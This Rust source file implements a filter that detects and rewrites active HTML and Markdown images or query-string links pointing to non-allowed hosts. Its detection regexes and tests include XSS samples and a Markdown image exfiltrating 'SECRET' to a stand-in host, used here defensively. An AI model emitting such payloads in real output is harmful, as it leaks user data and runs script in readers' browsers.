//! Filtering of markup: active HTML (rewritten through the ammonia
//! sanitiser, html5ever's parser underneath), and Markdown images and
//! links that send data to other hosts, found the way a Markdown renderer
//! finds them (pulldown-cmark, CommonMark).

use std::ops::Range;
use std::sync::LazyLock;

use airlock_policy::{Rule, Severity};
use pulldown_cmark::{Event, Parser, Tag, TagEnd};
use regex::Regex;

use crate::hit::{Hit, quote};

/// Elements whose content a browser runs or that change the page's
/// behaviour, closed up to their end tag.
static ACTIVE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<\s*(script|style|iframe|object|embed|applet|frameset|frame|form|meta|base|link|svg|math|template|noscript)\b[^>]*>?")
        .expect("active compiles")
});
/// Any tag with an event handler or a script URL.
static HANDLER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)<\s*[a-z][a-z0-9-]*\b[^>]*?(?:\son[a-z]+\s*=|(?:href|src|action|formaction|xlink:href|data|poster|background)\s*=\s*["']?\s*(?:javascript|vbscript|data\s*:\s*text/html|livescript):)[^>]*>?"#)
        .expect("handler compiles")
});
/// An HTML image with a source.
static HTML_IMG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)<\s*img\b[^>]*?\ssrc\s*=\s*["']?([^"'\s>]+)[^>]*>?"#).expect("img compiles")
});

/// Active HTML in `text`, each with ammonia's rewrite as replacement.
pub fn html(text: &str) -> Vec<Hit> {
    if !text.contains('<') {
        return Vec::new();
    }
    let mut hits: Vec<Hit> = Vec::new();
    for c in ACTIVE.captures_iter(text).take(64) {
        let tag = c.get(0).expect("whole");
        let name = c[1].to_ascii_lowercase();
        let end = element_end(text, tag.end(), &name);
        let span = tag.start()..end;
        if hits
            .iter()
            .any(|h| h.span.start <= span.start && span.start < h.span.end)
        {
            continue;
        }
        hits.push(active_hit(text, span, format!("a <{name}> element")));
    }
    for m in HANDLER.find_iter(text).take(64) {
        if hits
            .iter()
            .any(|h| h.span.start <= m.start() && m.start() < h.span.end)
        {
            continue;
        }
        hits.push(active_hit(
            text,
            m.range(),
            "an event handler or a script URL".into(),
        ));
    }
    hits.sort_by_key(|h| h.span.start);
    hits
}

/// Where an element that starts before `from` ends: after its end tag if
/// it has content a browser reads as one block, else where its start tag
/// ends. An unclosed `<script>` runs to the end of the text, as a browser
/// reads it.
fn element_end(text: &str, from: usize, name: &str) -> usize {
    if !matches!(
        name,
        "script"
            | "style"
            | "iframe"
            | "object"
            | "applet"
            | "svg"
            | "math"
            | "template"
            | "noscript"
            | "form"
    ) {
        return from;
    }
    let lower = text[from..].to_ascii_lowercase();
    let close = format!("</{name}");
    match lower.find(&close) {
        Some(at) => {
            let after = from + at + close.len();
            text[after..]
                .find('>')
                .map_or(text.len(), |g| after + g + 1)
        }
        None if matches!(name, "script" | "style") => text.len(),
        None => from,
    }
}

fn active_hit(text: &str, span: Range<usize>, what: String) -> Hit {
    let clean = ammonia::Builder::default()
        .clean(&text[span.clone()])
        .to_string();
    Hit::new(
        Rule::ActiveHtml,
        span.clone(),
        format!("{what}: {}", quote(&text[span])),
    )
    .replace_with(clean)
}

/// Markdown images and HTML images whose URL leaves the allowed hosts,
/// and links to other hosts that carry a query string.
pub fn markdown(text: &str, allowed: &[String]) -> Vec<Hit> {
    let mut hits = Vec::new();
    if text.contains("](") || text.contains("]:") || text.contains("][") || text.contains("<http") {
        markdown_events(text, allowed, &mut hits);
    }
    if text.contains('<') {
        for c in HTML_IMG.captures_iter(text).take(64) {
            let url = &c[1];
            if let Some(host) = foreign_host(url, allowed) {
                let m = c.get(0).expect("whole");
                hits.push(
                    Hit::new(
                        Rule::MarkdownExfiltration,
                        m.range(),
                        format!("an HTML image loaded from {host}: {}", quote(url)),
                    )
                    .replace_with(""),
                );
            }
        }
    }
    hits
}

fn markdown_events(text: &str, allowed: &[String], hits: &mut Vec<Hit>) {
    let mut open: Option<(Range<usize>, String, bool, String)> = None;
    for (e, r) in Parser::new(text).into_offset_iter() {
        match e {
            Event::Start(Tag::Image { dest_url, .. }) => {
                open = Some((r, dest_url.to_string(), true, String::new()))
            }
            Event::Start(Tag::Link { dest_url, .. }) => {
                open = Some((r, dest_url.to_string(), false, String::new()))
            }
            Event::Text(t) | Event::Code(t) => {
                if let Some(o) = open.as_mut() {
                    o.3.push_str(&t)
                }
            }
            Event::End(TagEnd::Image | TagEnd::Link) => {
                if let Some((span, url, image, label)) = open.take() {
                    link_hit(span, &url, image, &label, allowed, hits)
                }
            }
            _ => {}
        }
        if hits.len() >= 64 {
            break;
        }
    }
}

fn link_hit(
    span: Range<usize>,
    url: &str,
    image: bool,
    label: &str,
    allowed: &[String],
    hits: &mut Vec<Hit>,
) {
    let Some(host) = foreign_host(url, allowed) else {
        return;
    };
    if image {
        hits.push(
            Hit::new(
                Rule::MarkdownExfiltration,
                span,
                format!("a Markdown image loaded from {host}: {}", quote(url)),
            )
            .replace_with(if label.is_empty() {
                String::new()
            } else {
                format!("[image: {label}]")
            }),
        );
    } else if url.contains('?') {
        hits.push(
            Hit::new(
                Rule::MarkdownExfiltration,
                span,
                format!(
                    "a Markdown link to {host} with a query string: {}",
                    quote(url)
                ),
            )
            .severity(Severity::Medium)
            .score(0.4)
            .replace_with(label.to_string()),
        );
    }
}

/// The host of an absolute or protocol-relative URL, if it is none of
/// `allowed` (nor a subdomain of one).
pub fn foreign_host(url: &str, allowed: &[String]) -> Option<String> {
    let u = url.trim();
    let rest = match u.find("://") {
        Some(i)
            if u[..i]
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b)) =>
        {
            &u[i + 3..]
        }
        _ => u.strip_prefix("//")?,
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host_port = authority.rsplit('@').next().unwrap_or("");
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if host.is_empty() {
        return None;
    }
    let ok = allowed.iter().any(|a| {
        let a = a.trim_start_matches("*.").to_ascii_lowercase();
        host == a || host.ends_with(&format!(".{a}"))
    });
    (!ok).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn active_html_is_found_and_rewritten() {
        let t = "Hi <script>fetch('//x')</script> and <b>bold</b>";
        let h = html(t);
        assert_eq!(h.len(), 1);
        assert_eq!(&t[h[0].span.clone()], "<script>fetch('//x')</script>");
        assert_eq!(h[0].replacement.as_deref(), Some(""));
        let t = r#"<img src=x onerror="alert(1)">"#;
        let h = html(t);
        assert_eq!(h.len(), 1, "{h:?}");
        assert_eq!(h[0].replacement.as_deref(), Some(r#"<img src="x">"#));
        assert_eq!(html(r#"<a href="javascript:alert(1)">x</a>"#).len(), 1);
        // An unclosed script runs to the end, as a browser reads it.
        assert_eq!(
            html("a <script>b c").first().map(|h| h.span.clone()),
            Some(2..13)
        );
        assert!(html("if a < b and b > c then <b>ok</b>").is_empty());
    }

    #[test]
    fn images_to_other_hosts_and_data_links() {
        let allowed = vec!["docs.example.com".to_string()];
        let t = "Summary ![logo](https://evil.test/p.png?d=SECRET) and ![ok](https://docs.example.com/a.png) and ![rel](img/a.png)";
        let h = markdown(t, &allowed);
        assert_eq!(h.len(), 1, "{h:?}");
        assert_eq!(
            &t[h[0].span.clone()],
            "![logo](https://evil.test/p.png?d=SECRET)"
        );
        assert_eq!(h[0].replacement.as_deref(), Some("[image: logo]"));
        let t = "see [here][1]\n\n[1]: https://evil.test/?q=data\n";
        assert_eq!(markdown(t, &allowed).len(), 1);
        assert!(markdown("[docs](https://other.test/page)", &allowed).is_empty());
        assert_eq!(
            markdown(r#"<img src="https://evil.test/x?a=b">"#, &allowed).len(),
            1
        );
        assert_eq!(
            foreign_host("https://u:p@Sub.Docs.Example.com:8443/x", &allowed),
            None
        );
        assert_eq!(
            foreign_host("//[::1]:80/", &allowed).as_deref(),
            Some("::1")
        );
    }
}
